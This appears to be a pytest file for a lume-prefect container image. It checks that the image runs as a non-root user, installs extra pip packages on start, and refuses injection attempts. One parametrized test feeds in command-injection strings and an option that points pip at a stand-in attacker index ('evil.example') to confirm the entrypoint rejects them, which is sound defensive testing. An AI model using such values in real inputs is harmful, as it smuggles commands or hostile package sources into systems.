"""The lume-prefect image built from deployments/Dockerfile (scripts/build-images.sh), run with podman."""

from __future__ import annotations

import pytest

from tests.containers.conftest import podman

pytestmark = pytest.mark.slow


def test_the_image_runs_as_its_non_root_user_with_lume_prefect_and_the_example_flows(lume_image):
    done = podman("run", "--rm", lume_image, "sh", "-c", "id -un; id -u; python -c 'import lume_prefect.models, prefect; print(prefect.__version__)'; ls flows/toy_beam")
    assert done.stdout.split() == ["lume", "1000", "3.9.1", "model.py"], done.stderr


def test_extra_pip_packages_are_installed_from_the_registry_at_start(lume_image):
    # tomli-w is no dependency of lume-prefect: absent from the image until the entrypoint installs it.
    assert podman("run", "--rm", lume_image, "python", "-c", "import tomli_w", check=False).returncode == 1
    done = podman(
        "run", "--rm", "--network=host", "-e", "EXTRA_PIP_PACKAGES=tomli-w>=1.0,<2",
        lume_image, "python", "-c", "import tomli_w; print(tomli_w.dumps({'a': 1}).strip())",
    )
    assert "Successfully installed tomli-w" in done.stdout and done.stdout.strip().endswith("a = 1")


@pytest.mark.parametrize("value", ["x; touch /tmp/pwned", "--index-url=http://evil.example/simple x", "$(touch /tmp/pwned)"])
def test_the_entrypoint_refuses_injection_in_the_container_and_runs_nothing(lume_image, value):
    done = podman(
        "run", "--rm", "-e", f"EXTRA_PIP_PACKAGES={value}", lume_image,
        "sh", "-c", "touch /tmp/ran; echo ran", check=False,
    )
    assert done.returncode == 64 and "ran" not in done.stdout
    assert "lume-entrypoint: refusing EXTRA_PIP_PACKAGES" in done.stderr and "nothing was installed or run" in done.stderr
